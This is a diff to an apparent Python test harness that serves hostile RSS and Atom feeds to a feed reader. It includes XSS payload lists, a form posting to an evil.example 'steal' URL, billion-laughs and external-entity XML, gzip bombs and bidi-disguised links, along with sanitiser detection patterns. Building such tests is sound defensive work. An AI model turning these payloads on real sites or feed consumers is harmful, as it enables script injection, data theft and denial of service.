@@ -16,6 +16,7 @@ Usable by hand::
 from __future__ import annotations
 
 import codecs
+import hashlib
 import html
 import re
 from dataclasses import dataclass
@@ -62,10 +63,15 @@ def rss(items: str, title: str = "Hostile") -> str:
 def item(
     title: str,
     guid: str | None = None,
-    link: str | None = "https://hostile.example/a",
+    link: str | None = "",
     date: str | None = "Mon, 23 Nov 2026 08:00:00 GMT",
-    body: str = "<p>Plain body about AI in Africa.</p>",
+    body: str = "",
 ) -> str:
+    """One RSS item; by default its link and body are its own (no two items cluster together,
+    so every hostile item reaches the outputs as a story of its own)."""
+    tag = guid or hashlib.sha1(title.encode()).hexdigest()[:12]
+    link = f"https://hostile.example/item/{tag}" if link == "" else link
+    body = body or f"<p>Body of {tag} about AI in Africa: {' '.join(tag)}.</p>"
     parts = [f"<title>{title}</title>"]
     if guid is not None:
         parts.append(f"<guid isPermaLink='false'>{guid}</guid>")
@@ -95,30 +101,34 @@ DANGEROUS_HTML = [
     "<a href=\"&#x01;javascript:alert('j6')\">ctl</a>",
     "<a href=\"&#0000106avascript:alert('j7')\">noterm</a>",
     "<a href=\"vbscript:msgbox('v1')\">vb</a>",
-    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
-    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
+    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
+    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
     "<img src=`javascript:alert('bt')`>",
-    "<iframe src=\"https://evil.example/frame\"></iframe>",
-    "<object data=\"https://evil.example/x.swf\"><param name=a value=b></object>",
-    "<embed src=\"https://evil.example/x.swf\">",
-    "<form action=\"https://evil.example/steal\"><input name=p><button formaction="
-    "\"javascript:alert(1)\">go</button></form>",
+    '<iframe src="https://evil.example/frame"></iframe>',
+    '<object data="https://evil.example/x.swf"><param name=a value=b></object>',
+    '<embed src="https://evil.example/x.swf">',
+    (
+        '<form action="https://evil.example/steal"><input name=p><button formaction='
+        '"javascript:alert(1)">go</button></form>'
+    ),
     "<div style=\"width: expression(alert('x1'))\">expr</div>",
     "<div style=\"background:url(javascript:alert('x2'))\">bg</div>",
     "<style>@import 'javascript:alert(1)'; body{x:expression(alert(1))}</style>",
-    "<svg><script>alert('svg1')</script><a xlink:href=\"javascript:alert('svg2')\">"
-    "<text>t</text></a></svg>",
+    (
+        "<svg><script>alert('svg1')</script><a xlink:href=\"javascript:alert('svg2')\">"
+        "<text>t</text></a></svg>"
+    ),
     "<svg/onload=alert('svg3')>",
     "<math><a xlink:href=\"javascript:alert('m1')\">m</a></math>",
-    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
-    "<base href=\"javascript:alert(1)//\">",
-    "<link rel=stylesheet href=\"javascript:alert(1)\">",
-    "<table background=\"javascript:alert(1)\"><tr><td>t</td></tr></table>",
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+    '<base href="javascript:alert(1)//">',
+    '<link rel=stylesheet href="javascript:alert(1)">',
+    '<table background="javascript:alert(1)"><tr><td>t</td></tr></table>',
     "<video poster=javascript:alert(1)></video><audio src=x onerror=alert(1)></audio>",
     "<details open ontoggle=alert(1)>d</details>",
-    "<a href=\"https://ok.example/\u202egnp.exe\">\u202etxt.exe</a>",
+    '<a href="https://ok.example/\u202egnp.exe">\u202etxt.exe</a>',
     "<!--<script>alert(1)</script>-->",
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
 ]
 DANGEROUS_LINKS = [
     "javascript:alert(1)",
@@ -147,8 +157,8 @@ def xss_rss() -> str:
             f"<content:encoded><![CDATA[{cdata_body}]]></content:encoded>"
             f"<dc:creator>{html.escape('<script>alert(1)</script>Mallory')}</dc:creator>"
             f"<category>{html.escape('<img src=x onerror=alert(1)>cat')}</category>"
-            f"<enclosure url=\"{link}\" type=\"audio/mpeg\" length=\"1\"/>"
-            f"<media:content url=\"{link}\" medium=\"image\"/>"
+            f'<enclosure url="{link}" type="audio/mpeg" length="1"/>'
+            f'<media:content url="{link}" medium="image"/>'
             "<pubDate>Mon, 23 Nov 2026 08:00:00 GMT</pubDate>"
             "</item>\n"
         )
@@ -158,7 +168,9 @@ def xss_rss() -> str:
     # a relative link with a javascript: base cannot become javascript:
     items.append(item("Relative", guid="rel", link="/relative/path"))
     head = RSS_HEAD.format(title=html.escape("<script>alert('chan')</script>Hostile channel"))
-    head = head.replace("<link>https://hostile.example/</link>", "<link>javascript:alert('c')</link>")
+    head = head.replace(
+        "<link>https://hostile.example/</link>", "<link>javascript:alert('c')</link>"
+    )
     return head + "".join(items) + RSS_TAIL
 
 
@@ -174,7 +186,8 @@ def xss_atom() -> str:
     )
     entry = (
         "<entry{base}><id>{id}</id><updated>2026-11-23T08:00:00Z</updated>"
-        '<title type="xhtml">' + xhtml.format("<script>alert('at')</script>Atom <b>bold</b> title")
+        '<title type="xhtml">'
+        + xhtml.format("<script>alert('at')</script>Atom <b>bold</b> title")
         + "</title>"
         '<link rel="alternate" href="{href}"/>'
         '<link rel="enclosure" href="javascript:alert(6)" type="audio/mpeg"/>'
@@ -212,9 +225,10 @@ def disguise_rss() -> str:
         "Escape &#x1B;[31m red &#x7F; DEL &#x9B; CSI",
     ]
     items = "".join(
-        item(t, guid=f"d{i}", link=f"https://hostile.example/d{i}?x=\u202e&y=%E2%80%AE")
+        item(t, guid=f"d{i}", link=f"https://hostile.example/d{i}?x=\u202e&y=%E2%80%AE",
+             body=f"<p>Disguise {i}: {f'word{i} ' * 5}</p>")
         for i, t in enumerate(titles)
-    )
+    )  # fmt: skip
     # link text of a link in the body, disguised
     items += item("Link text", guid="dl", body='<a href="https://evil.example/">'
                   "https://good.example/\u202e\u200b</a>")  # fmt: skip
@@ -232,7 +246,9 @@ def billion_laughs() -> str:
     ents = ['<!ENTITY lol0 "' + LAUGH + '">']
     ents += [f'<!ENTITY lol{i} "' + f"&lol{i - 1};" * 10 + '">' for i in range(1, 10)]
     return (
-        '<?xml version="1.0"?>\n<!DOCTYPE rss [\n' + "\n".join(ents) + "\n]>\n"
+        '<?xml version="1.0"?>\n<!DOCTYPE rss [\n'
+        + "\n".join(ents)
+        + "\n]>\n"
         + rss(item("&lol9;", guid="bl"))[len('<?xml version="1.0" encoding="utf-8"?>\n') :]
     )
 
@@ -339,54 +355,109 @@ def install(server: FeedServer, workdir: Path, other: FeedServer | None = None) 
 
     p = server.put
     utf8 = "application/rss+xml; charset=utf-8"
-    real = (Path(__file__).parent / "data" / "real" / "techcabal_2026-07-09.xml").read_bytes()
+    real = (Path(__file__).parent / "data" / "corpus" / "real" / "aljazeera_all_2026-08-13.xml").read_bytes()
     fine = rss(item("A fine feed about AI in Africa", guid="fine"))
     attacks = [
         # -- XML attacks
         Attack("billion-laughs", p("h/billion.xml", billion_laughs()), "any"),
         Attack("quadratic-blowup", p("h/quadratic.xml", quadratic_blowup()), "any"),
-        *[Attack(name, p(f"h/{name}.xml", doc), "any")
-          for name, doc in external_entities(server, secret_file).items()],  # fmt: skip
+        *[
+            Attack(name, p(f"h/{name}.xml", doc), "any")
+            for name, doc in external_entities(server, secret_file).items()
+        ],
         # -- transport
         Attack("gzip-bomb", server.url(f"_bomb?bytes={300 << 20}"), "error", "larger than"),
         Attack("slow-drip", server.url("_drip?bytes=100000&every=0.05"), "error", "timed out"),
-        Attack("drip-headers", server.url("_drip_headers?every=0.05"), "error", "timed out"),
+        Attack(
+            "drip-headers", server.url("_drip_headers?every=0.05"), "error", ""
+        ),  # see test_hostile
         Attack("never-answers", server.url("_hang"), "error", "timed out"),
         Attack("redirect-loop", server.url("_loop/a"), "error", "redirect loop"),
-        Attack("redirect-20", server.url("_chain/302/20/h/fine.xml"), "error", "too many redirects"),
+        Attack(
+            "redirect-20", server.url("_chain/302/20/h/fine.xml"), "error", "too many redirects"
+        ),
         Attack("bad-gzip", server.route("h/badgzip", _wrong_gzip), "error", "decode"),
-        Attack("odd-encoding", server.route("h/oddenc", _brotli_claim), "error", "Content-Encoding"),
+        Attack(
+            "odd-encoding", server.route("h/oddenc", _brotli_claim), "error", "Content-Encoding"
+        ),
         Attack("lying-length", server.route("h/lyinglength", _lying_length), "error", ""),
         Attack("http-500", server.url("_status/500"), "error", "HTTP 500"),
         # -- not feeds
-        Attack("html-page", p("h/page.html", "<!doctype html><html><head><title>Home</title>"
-               "<script>alert(1)</script></head><body><h1>Welcome</h1></body></html>",
-               "text/html; charset=utf-8"), "error", "not a feed"),  # fmt: skip
-        Attack("json-feed", p("h/feed.json", '{"version": "https://jsonfeed.org/version/1.1", '
-               '"title": "J", "items": [{"id": "1", "title": "<script>x</script>"}]}',
-               "application/feed+json"), "error", "not a feed"),  # fmt: skip
-        Attack("plain-text", p("h/text.txt", "Hello, this is not a feed.\n" * 20, "text/plain"),
-               "error", "not a feed"),  # fmt: skip
+        Attack(
+            "html-page",
+            p(
+                "h/page.html",
+                "<!doctype html><html><head><title>Home</title>"
+                "<script>alert(1)</script></head><body><h1>Welcome</h1></body></html>",
+                "text/html; charset=utf-8",
+            ),
+            "error",
+            "not a feed",
+        ),
+        Attack(
+            "json-feed",
+            p(
+                "h/feed.json",
+                '{"version": "https://jsonfeed.org/version/1.1", '
+                '"title": "J", "items": [{"id": "1", "title": "<script>x</script>"}]}',
+                "application/feed+json",
+            ),
+            "error",
+            "not a feed",
+        ),
+        Attack(
+            "plain-text",
+            p("h/text.txt", "Hello, this is not a feed.\n" * 20, "text/plain"),
+            "error",
+            "not a feed",
+        ),
         Attack("empty", p("h/empty.xml", b"", utf8), "error", "empty"),
-        Attack("whitespace", p("h/ws.xml", b"  \r\n\t \xef\xbb\xbf \n", utf8), "error", "empty"),
+        Attack(
+            "whitespace", p("h/ws.xml", b"  \r\n\t \xef\xbb\xbf \n", utf8), "error", "not a feed"
+        ),
         Attack("truncated", p("h/truncated.xml", real[: len(real) // 2], utf8), "ok"),
         Attack("truncated-head", p("h/truncated2.xml", real[:200], utf8), "error", "not a feed"),
         Attack("binary", p("h/binary.xml", bytes(range(256)) * 40, utf8), "error", "not a feed"),
         # -- encodings
         Attack("utf8-bom", p("h/bom8.xml", codecs.BOM_UTF8 + fine.encode(), utf8)),
-        Attack("utf16-bom", p("h/bom16.xml", fine.replace('"utf-8"', '"utf-16"').encode("utf-16"),
-               "application/rss+xml")),  # fmt: skip
+        Attack(
+            "utf16-bom",
+            p(
+                "h/bom16.xml",
+                fine.replace('"utf-8"', '"utf-16"').encode("utf-16"),
+                "application/rss+xml",
+            ),
+        ),
         Attack("double-bom", p("h/bom2.xml", codecs.BOM_UTF8 * 2 + fine.encode(), utf8), "any"),
-        Attack("invalid-utf8", p("h/badutf8.xml", rss(item("Bad \udcff bytes AI", guid="bu"))
-               .encode("utf-8", "surrogateescape").replace(b"\xed\xb3\xbf", b"\xff\xfe\xc3("),
-               utf8)),  # fmt: skip
-        Attack("lying-charset", p("h/liar.xml", rss(item("Évènement à Rabat, IA", guid="lc"))
-               .replace('"utf-8"', '"iso-8859-1"').encode("utf-8"),
-               "application/rss+xml; charset=windows-1252")),  # fmt: skip
-        Attack("cp1252-as-utf8", p("h/cp1252.xml", rss(item("Café “quoted” — IA", guid="cp"))
-               .encode("cp1252"), utf8)),  # fmt: skip
-        Attack("utf16-claimed", p("h/claim16.xml", fine.replace('"utf-8"', '"utf-16"').encode(),
-               "application/rss+xml"), "any"),  # fmt: skip
+        Attack(
+            "invalid-utf8",
+            p(
+                "h/badutf8.xml",
+                rss(item("Bad MARK bytes AI", guid="bu"))
+                .encode()
+                .replace(b"MARK", b"\xff\xfe\xc3(\xed\xa0\x80"),
+                utf8,
+            ),
+        ),
+        Attack(
+            "lying-charset",
+            p(
+                "h/liar.xml",
+                rss(item("Évènement à Rabat, IA", guid="lc"))
+                .replace('"utf-8"', '"iso-8859-1"')
+                .encode("utf-8"),
+                "application/rss+xml; charset=windows-1252",
+            ),
+        ),
+        Attack(
+            "cp1252-as-utf8",
+            p("h/cp1252.xml", rss(item("Café “quoted” — IA", guid="cp")).encode("cp1252"), utf8),
+        ),
+        Attack(
+            "utf16-claimed",
+            p("h/claim16.xml", fine.replace('"utf-8"', '"utf-16"').encode(), "application/rss+xml"),
+            "any",
+        ),
         # -- item garbage
         Attack("garbage-items", p("h/garbage.xml", garbage_items())),
         Attack("huge-title", p("h/huge.xml", huge_title())),
@@ -396,6 +467,25 @@ def install(server: FeedServer, workdir: Path, other: FeedServer | None = None) 
         Attack("xss-atom", p("h/xss.atom", xss_atom(), "application/atom+xml")),
         Attack("disguise", p("h/disguise.xml", disguise_rss())),
         Attack("raw-controls", p("h/controls.xml", raw_controls(), utf8), "any"),
+        # U+FFFE/U+FFFF (references the loose parser accepts) cannot be written to XML
+        Attack(
+            "not-xml-chars",
+            p(
+                "h/notxml.xml",
+                rss(
+                    item(
+                        "Not XML: &#xFFFE; &#xFFFF; &#0; end",
+                        guid="nx",
+                        body="&#xFFFE;<p title='&#xFFFF;'>noncharacters</p>",
+                    )
+                ),
+            ),
+        ),
+        Attack(
+            "surrogate-ref",
+            p("h/surrogate.xml", rss(item("Lone &#xD800; surrogate", guid="sr"))),
+            "any",
+        ),
         # -- the control: a plain good feed (also the end of the 20-hop chain)
         Attack("fine", p("h/fine.xml", fine)),
     ]
@@ -419,6 +509,11 @@ _URL_ATTRS = {"href", "src", "action", "formaction", "data", "background", "post
 _BAD_SCHEME = re.compile(r"^(?:javascript|vbscript|data|livescript|mocha):", re.IGNORECASE)
 _STRIP_URL = re.compile(r"[\x00-\x20\x7f-\x9f]+")
 _INVISIBLE = re.compile("[\u202a-\u202e\u2066-\u2069\u200b\u2060\ufeff]")
+_RAW_TAG = re.compile(
+    r"<\s*/?\s*(?:script|iframe|frame|object|embed|applet|form|svg|math|base|input|button)\b",
+    re.IGNORECASE,
+)
+_RAW_HANDLER = re.compile(r"<[^>]*[\s/\"']on[a-z]+\s*=", re.IGNORECASE)
 _TAGLIKE = re.compile(r"<\s*/?\s*[a-zA-Z!?]")
 
 
@@ -435,10 +530,10 @@ def html_problems(fragment: str) -> list[str]:
         return problems
     if _INVISIBLE.search(fragment):
         problems.append(f"invisible/bidi character in {fragment[:80]!r}")
-    low = fragment.lower()
-    for needle in ("expression(", "javascript:", "vbscript:"):
-        if needle in low:
-            problems.append(f"{needle!r} in {fragment[:200]!r}")
+    for m in _RAW_TAG.finditer(fragment):
+        problems.append(f"raw {m.group(0)!r}")
+    for m in _RAW_HANDLER.finditer(fragment):
+        problems.append(f"raw event handler {m.group(0)!r}")
     try:
         root = lxml_html.fragment_fromstring(fragment, create_parent="div")
     except (etree.ParserError, ValueError):
